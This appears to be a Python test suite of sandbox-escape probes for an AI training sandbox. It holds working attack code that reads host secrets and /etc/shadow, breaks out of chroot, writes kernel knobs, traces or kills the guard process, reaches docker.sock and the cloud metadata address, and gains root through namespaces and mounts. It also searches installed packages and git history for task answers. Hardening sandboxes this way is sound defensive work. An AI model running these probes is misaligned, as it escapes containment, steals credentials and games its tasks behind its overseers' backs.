"""Assaults that aim to get out: at the host's files, processes, devices and network."""

from attack import escape

PROGRAMS = {
    "a secret on the host by its path": (
        "the secret's text",
        """
        places = [SECRET, "/proc/1/root" + SECRET, "/proc/self/root/../../.." + SECRET, "/workspace/../../.." + SECRET]
        for place in places + ["/proc/1/cwd/" + SECRET, "/host" + SECRET, "/mnt" + SECRET]:
            attempt(place, lambda place=place: open(place).read())
        """,
    ),
    "the host's accounts": (
        "password hashes and keys",
        """
        for place in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.ssh", "/home", "/proc/1/root/root"):
            attempt(place, lambda place=place: (os.listdir if os.path.isdir(place) else open)(place) or None)
        """,
    ),
    "a way out of the root by a directory kept open": (
        "the host's root",
        """
        def out():
            fd = os.open("/", os.O_RDONLY)
            os.mkdir("/tmp/inner")
            os.chroot("/tmp/inner")
            os.fchdir(fd)
            for _ in range(50):
                os.chdir("..")
            os.chroot(".")
            return os.path.exists(SECRET)
        attempt("chroot", out)
        fd = os.open("/", os.O_RDONLY)
        attempt("openat", lambda: os.open("../" * 30 + SECRET[1:], os.O_RDONLY, dir_fd=fd))
        """,
    ),
    "hard links to what is not its own": (
        "a file of the system to change",
        """
        for place in (SECRET, "/etc/passwd", "/usr/bin/env", "/packages/pytest/__init__.py", sys.executable):
            attempt(place, lambda place=place: os.link(place, "/workspace/linked") or "linked")
        """,
    ),
    "places outside of the workspace": (
        "a file that lasts beyond the sandbox",
        """
        import sysconfig
        folder = os.path.dirname(SECRET)
        library = sysconfig.get_path("stdlib")
        for place in (folder, "/", "/usr", "/usr/lib", "/etc", "/packages", "/packages/_pytest", library, "/dev"):
            attempt(place, lambda place=place: open(place + "/attack", "w") and "written")
        for place in ("/packages/pytest/__init__.py", os.path.realpath(sys.executable), os.__file__, "/etc/passwd"):
            attempt(place, lambda place=place: open(place, "r+b") and "open for writing")
        """,
    ),
    "knobs of the kernel": (
        "a program of its own that the kernel runs as root",
        """
        knobs = "kernel/core_pattern kernel/modprobe kernel/sysrq kernel/ns_last_pid vm/panic_on_oom".split()
        for knob in [*knobs, "fs/binfmt_misc/register", "net/ipv4/ip_forward", "user/max_user_namespaces"]:
            attempt(knob, lambda knob=knob: os.write(os.open("/proc/sys/" + knob, os.O_WRONLY), b"|/tmp/x") or "set")
        groups = "/sys/fs/cgroup/"
        others = [groups + "release_agent", groups + "memory/release_agent", groups + "cgroup.procs"]
        for knob in [*others, "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/sys/power/state"]:
            attempt(knob, lambda knob=knob: os.open(knob, os.O_WRONLY))
        """,
    ),
    "memory of the kernel": (
        "the kernel's memory",
        """
        for place in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/kmsg"):
            attempt(place, lambda place=place: open(place, "rb").read(4096) or None)
        def address():
            lines = open("/proc/kallsyms").read(4000).splitlines()
            return any(line.split()[0].strip("0") for line in lines)
        attempt("kallsyms", address)
        """,
    ),
    "process 1 and its kin": (
        "the supervisor's memory, files and environment",
        """
        pids = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
        for pid in pids:
            attempt("mem", lambda pid=pid: open(f"/proc/{pid}/mem", "r+b") and "open")
            attempt("fd", lambda pid=pid: [os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd")])
            attempt("environ", lambda pid=pid: [e for e in open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
                                                if e.startswith((b"SECRET", b"HOST_"))] or None)
        """,
    ),
    "processes of the host": (
        "a signal to a process outside",
        """
        mine = {int(n) for n in os.listdir("/proc") if n.isdigit()}
        def reach(pid):
            try:
                os.kill(pid, 0)
            except ProcessLookupError:
                return None
            except PermissionError:
                return pid
            return pid
        # By number, not by list: what is hidden from a list may still be reached.
        for pid in range(2, 40000):
            if pid not in mine and reach(pid) is not None:
                won.append(str(pid))
        held.append("no such process")
        """,
    ),
    "tracing": (
        "control over the process that guards it",
        """
        attempt("attach", lambda: check(libc.ptrace(16, 1, 0, 0)) == 0)
        buffer = ctypes.create_string_buffer(64)
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
        mine, theirs = Vector(ctypes.addressof(buffer), 64), Vector(0x400000, 64)
        attempt("read", lambda: check(libc.process_vm_readv(1, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)))
        def steal():
            fd = os.pidfd_open(1)
            return check(libc.syscall(438, fd, 0, 0))
        attempt("steal a descriptor", steal)
        """,
    ),
    "its guard is stopped or starved": (
        "a command without a deadline",
        """
        import resource, signal
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGTSTP):
            try:
                os.kill(1, number)
            except PermissionError:
                pass
        attempt("limits", lambda: resource.prlimit(1, resource.RLIMIT_CPU, (1, 1)))
        attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, 0, -10) or "raised")
        attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)) or "set")
        """,
    ),
    "the host's network": (
        "a connection to the outside, or to the host itself",
        """
        import socket
        def reach(kind, place):
            s = socket.socket(socket.AF_INET6 if ":" in place[0] else socket.AF_INET, kind)
            s.settimeout(0.3)
            s.connect(place)
            s.send(b"x")
            return place
        hosts = ["169.254.169.254", "1.1.1.1", "172.17.0.1", "10.0.0.1", "2606:4700::1"]
        for place in [(host, port) for host in hosts for port in (53, 80)]:
            attempt(str(place), reach, socket.SOCK_STREAM, place)
            attempt(str(place), reach, socket.SOCK_DGRAM, place)
        attempt("names", lambda: socket.getaddrinfo("pypi.org", 443))
        """,
    ),
    "raw and odd sockets": (
        "packets of its own making, and the kernel's rarely used parts",
        """
        import socket
        can, packet = 29, socket.AF_PACKET
        for family, kind in [(packet, 3), (socket.AF_INET, 3), (socket.AF_ALG, 5), (socket.AF_VSOCK, 1), (can, 3)]:
            attempt(f"family {family}", lambda f=family, k=kind: socket.socket(f, k))
        """,
    ),
    "sockets of daemons": (
        "an engine or bus of the host",
        """
        import socket
        for place in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                      "/run/podman/podman.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
            attempt(place, lambda place=place: socket.socket(socket.AF_UNIX).connect(place) or "connected")
        """,
    ),
    "devices": (
        "a disk or another device of the host",
        """
        import stat
        block, character = stat.S_IFBLK, stat.S_IFCHR
        for kind, major, minor in ((block, 8, 0), (block, 259, 0), (block, 254, 0), (character, 1, 1)):
            def make(kind=kind, major=major, minor=minor):
                os.mknod(f"/tmp/device-{major}-{minor}", kind | 0o666, os.makedev(major, minor))
                return open(f"/tmp/device-{major}-{minor}", "rb").read(16)
            attempt(f"{major}:{minor}", make)
        for name in ("sda", "vda", "nvme0n1", "fuse", "kvm", "loop-control", "net/tun"):
            attempt(name, lambda name=name: os.open("/dev/" + name, os.O_RDWR))
        """,
    ),
    "programs with the bit of another user": (
        "user 0",
        """
        import shutil, subprocess
        attempt("setuid", lambda: os.setuid(0) or "root")
        attempt("setresuid", lambda: os.setresuid(0, 0, 0) or "root")
        attempt("setgroups", lambda: os.setgroups([0]) or "in group 0")
        def with_bit():
            shutil.copy("/bin/sh", "/tmp/sh")
            os.chmod("/tmp/sh", 0o6755)
            who = subprocess.run(["/tmp/sh", "-p", "-c", "id -u"], capture_output=True, text=True).stdout
            return who.strip() in ("0", "")
        attempt("a copy with the bit", with_bit)
        attempt("file capabilities", lambda: os.setxattr("/tmp/sh", "security.capability", bytes(20)) or "set")
        for name in ("su", "sudo", "mount", "newuidmap", "passwd", "pkexec"):
            path = shutil.which(name)
            if path:
                done = subprocess.run([path, "-h"], capture_output=True, stdin=subprocess.DEVNULL)
                attempt(name, lambda: os.stat(f"/proc/{os.getpid()}").st_uid == 0)
        """,
    ),
    "capabilities": (
        "a privilege over the kernel",
        """
        status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
        for name in ("CapEff", "CapPrm", "CapInh", "CapAmb", "CapBnd"):
            attempt(name, lambda name=name: int(status[name], 16) or None)
        attempt("new privileges", lambda: status["NoNewPrivs"] != "1")
        attempt("no filter", lambda: status["Seccomp"] != "2")
        """,
    ),
    "nested namespaces": (
        "a namespace in which it is root",
        """
        names = dict(user=0x10000000, mount=0x20000, network=0x40000000, pid=0x20000000, ipc=0x8000000, uts=0x4000000)
        for name, flag in [*names.items(), ("user and mount", 0x10020000)]:
            attempt(name, lambda flag=flag: check(libc.unshare(flag)) == 0)
        stack = ctypes.create_string_buffer(65536)
        entry = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(lambda _: 0)
        top = ctypes.c_void_p(ctypes.addressof(stack) + 65000)
        attempt("clone", lambda: check(libc.clone(entry, top, 0x10000000 | 17, None)))
        import subprocess
        done = subprocess.run("unshare -Ur id || true", shell=True, capture_output=True, text=True).stdout
        attempt("unshare -Ur", lambda: "uid=0" in done)
        """,
    ),
    "namespaces of others": (
        "the host's network and mounts",
        """
        for name in ("net", "mnt", "pid", "user", "ipc"):
            for pid in (1, os.getppid()):
                def enter(name=name, pid=pid):
                    fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
                    same = os.readlink(f"/proc/{pid}/ns/{name}") == os.readlink(f"/proc/self/ns/{name}")
                    return check(libc.setns(fd, 0)) == 0 and not same
                attempt(f"{pid} {name}", enter)
        """,
    ),
    "mounts": (
        "another view of the file system",
        """
        os.makedirs("/tmp/m", exist_ok=True)
        bind, again = 4096, 32
        new = [("none", "/tmp/m", "tmpfs", 0), ("/", "/tmp/m", "", bind), ("proc", "/tmp/m", "proc", 0)]
        writable = [("none", place, "", bind | again) for place in ("/packages", "/usr", "/")]
        for source, target, kind, flags in [*new, *writable]:
            arguments = source.encode(), target.encode(), kind.encode() or None, flags, None
            attempt(f"{source} on {target}", lambda a=arguments: check(libc.mount(*a)) == 0)
        attempt("umount", lambda: check(libc.umount2(b"/workspace", 2)) == 0)
        attempt("umount", lambda: check(libc.umount2(b"/proc", 2)) == 0)
        attempt("open_tree", lambda: check(libc.syscall(428, -100, b"/", 1)))
        attempt("fsopen", lambda: check(libc.syscall(430, b"tmpfs", 0)))
        attempt("mount_setattr", lambda: check(libc.syscall(442, -100, b"/packages", 0, bytes(32), 32)) == 0)
        """,
    ),
    "files by handle": (
        "a file of the host by its inode, past every mount",
        """
        handle = (ctypes.c_uint32 * 34)(8, 1, 2)  # inode 2: the root of an ext4 file system
        for place in ("/", "/etc/hosts", "/workspace", "/usr", "/packages"):
            attempt(place, lambda place=place: check(libc.open_by_handle_at(os.open(place, 0), handle, 0)))
        """,
    ),
    "rarely used calls": (
        "a fault of the kernel",
        """
        x86 = os.uname().machine == "x86_64"
        calls = {"bpf": (321, 280), "perf_event_open": (298, 241), "init_module": (175, 105), "kexec_load": (246, 104),
                 "finit_module": (313, 273), "reboot": (169, 142), "swapon": (167, 224), "acct": (163, 89),
                 "keyctl": (250, 219), "settimeofday": (164, 170), "quotactl": (179, 60)}
        for name, numbers in calls.items():
            attempt(name, lambda n=numbers[0 if x86 else 1]: check(libc.syscall(n, 0, 0, 0, 0, 0)) >= 0)
        if x86:
            attempt("the x32 table", lambda: check(libc.syscall(0x40000000 + 39)) >= 0)
        """,
    ),
    "descriptors left open": (
        "a pipe or file of the service",
        """
        for name in os.listdir("/proc/self/fd"):
            if int(name) > 2 and os.path.lexists("/proc/self/fd/" + name):
                attempt(name, lambda name=name: os.readlink("/proc/self/fd/" + name))
        attempt("terminal", lambda: open("/dev/tty"))
        import fcntl
        attempt("typed text", lambda: fcntl.ioctl(0, 0x5412, b"x"))
        attempt("stdin", lambda: os.read(0, 100) or None)
        """,
    ),
    "the environment of the service": (
        "keys and tokens of the trainer",
        """
        for name, value in os.environ.items():
            text = (name + value).upper()
            attempt(name, lambda: any(word in text for word in ("SECRET-", "TOKEN", "_KEY", "AWS")))
        """,
    ),
    "shared memory between sandboxes": (
        "a channel to another sandbox",
        """
        attempt("segments", lambda: len(open("/proc/sysvipc/shm").read().splitlines()) > 1)
        attempt("attach", lambda: check(libc.shmget(0x5EED, 0, 0o666)))
        attempt("queues", lambda: check(libc.msgget(0x5EED, 0o666)))
        for place in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue"):
            attempt(place, lambda place=place: [n for n in os.listdir(place) if "neighbour" in n] or None)
        """,
    ),
    "installed copies of the answer": (
        "the correct code in some installed distribution",
        """
        import importlib.util, sysconfig
        for name in ("shelf", "sandbox_service", "skillrl", "grpc", "numpy", "pip", "setuptools"):
            attempt(name, lambda name=name: importlib.util.find_spec(name))
        roots = {sysconfig.get_path("stdlib"), "/usr/lib/python3", "/usr/share/python-wheels", "/usr/local/lib"}
        for root in roots:
            for folder, folders, files in os.walk(root):
                for name in files:
                    is_one = name.endswith((".whl", ".egg")) or name in ("METADATA", "PKG-INFO")
                    if is_one and "/test/" not in folder:
                        place = os.path.join(folder, name)
                        attempt("distribution", lambda: open(place, "rb").read(1) and place)
        held.append("none found")
        """,
    ),
    "the history of the repository": (
        "the commit with the fix",
        """
        import subprocess
        for folder, folders, files in os.walk("/workspace"):
            attempt("git", lambda: [os.path.join(folder, n) for n in folders + files if n.startswith(".git")
                                    or n.endswith((".orig", ".rej", ".patch", ".pyc", ".bundle"))] or None)
        for command in ("git -C /workspace log --all", "git -C /workspace reflog", "git -C /workspace stash list"):
            done = subprocess.run(command, shell=True, capture_output=True, text=True)
            attempt(command, lambda: done.returncode == 0)
        """,
    ),
}

ASSAULTS = [escape(name, aims_for, program) for name, (aims_for, program) in PROGRAMS.items()]
